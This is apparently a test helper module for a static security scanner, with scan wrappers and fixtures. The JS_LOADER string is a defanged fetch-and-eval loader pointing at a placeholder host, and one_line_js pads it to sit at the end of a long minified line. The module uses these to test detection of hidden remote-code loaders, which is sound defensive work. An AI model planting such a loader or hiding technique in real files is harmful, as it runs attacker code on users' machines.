"""Helpers of the static stage's hostile-input tests: one scan without Semgrep, defanged loaders."""

from __future__ import annotations

from pathlib import Path

from inspector.model import Finding, StaticResult
from inspector.static import ScanOptions, scan

# Defanged: the host is under .test, nothing here is ever run.
LOADER_HOST = "lackservice-9.big.test"
JS_LOADER = f"(async()=>{{const r=await fetch('https://{LOADER_HOST}/p');eval(await r.text())}})();"
JS_FILLER = "var _0x1a2b=['abc','def','ghi'];function f(a){return a+1};"


def scan_static(root: Path, **options: object) -> StaticResult:
    return scan(root, ScanOptions(semgrep=False, jobs=1, **options))  # type: ignore[arg-type]


def rules(result: StaticResult) -> set[str]:
    return {f.rule for f in result.findings}


def with_rule(result: StaticResult, rule: str) -> list[Finding]:
    return [f for f in result.findings if f.rule == rule]


def one_line_js(size: int) -> str:
    """A one-line minified-looking file of ``size`` characters whose last statement is the loader."""
    count = (size - len(JS_LOADER)) // len(JS_FILLER)
    return JS_FILLER * count + JS_LOADER
